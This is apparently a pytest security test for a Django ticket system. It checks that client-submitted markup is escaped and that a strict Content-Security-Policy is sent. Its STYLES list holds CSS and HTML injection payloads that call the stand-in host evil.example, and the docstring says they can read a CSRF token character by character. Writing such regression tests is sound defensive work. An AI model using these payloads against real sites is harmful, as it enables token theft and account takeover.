"""Row 12: style that a client brings reads a CSRF token letter by letter (CVE-2026-40497)."""

import re

import pytest
from django.contrib.auth.models import User
from django.test import Client

from tests.security.attack import file_by_form, live
from tickets.services import thread

pytestmark = pytest.mark.django_db

STYLES = [
    "<style>input[value^=a]{background:url(//evil.example/a)}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<p style='background:url(//evil.example/)'>x</p>",
    "</textarea><style>@import '//evil.example/x.css'</style>",
    "<svg><style>@import '//evil.example'</style></svg>",
    "<base href=//evil.example/>",
    "<form action=//evil.example/><button>x</button></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
]


@pytest.mark.parametrize("style", STYLES)
def test_no_style_link_or_form_of_a_client_is_one(
    client: Client, agent: User, agent_client: Client, style: str
) -> None:
    link = file_by_form(client, words=style, name=style, error_text=style)
    thread.reply(ticket=link.ticket, body=style, by=agent)
    thread.note(ticket=link.ticket, body=style, by=agent)
    page = f"/admin/tickets/ticket/{link.ticket.pk}/"
    for browser, address in (
        (client, f"/tickets/{link.token}/"),
        (agent_client, "/admin/tickets/ticket/?view=all"),
        (agent_client, f"{page}change/"),
        (agent_client, f"{page}client/"),
    ):
        response = browser.get(address)
        assert response.status_code == 200
        assert live(response) == []
        html = response.content.decode()
        assert not re.search(r"<(link|meta|form|base|style)[^>]*evil", html)
        assert "evil.example" in html


@pytest.mark.parametrize(
    "address",
    ["/", "/search/?q=x", "/tickets/new/", "/tickets/find/", "/nowhere/", "/admin/login/", "/admin/",
     "/static/css/base.css", "/robots.txt", "/healthz", "/admin/tickets/ticket/",
     "/admin/tickets/ticket/add/", "/admin/jsi18n/"],
)  # fmt: skip
def test_the_policy_lets_no_style_or_script_in_but_ours(agent_client: Client, address: str) -> None:
    """And if one slips through: it is neither run nor does it reach another server."""
    response = agent_client.get(address)
    policy = dict(part.strip().split(" ", 1) for part in response["Content-Security-Policy"].split(";"))
    assert policy["default-src"] == "'none'"
    for kind in ("script-src", "style-src", "img-src", "font-src", "connect-src", "form-action"):
        assert policy[kind] == "'self'"
    assert policy["base-uri"] == policy["frame-ancestors"] == "'none'"
    assert "unsafe" not in response["Content-Security-Policy"]
    if response.streaming:
        response.close()
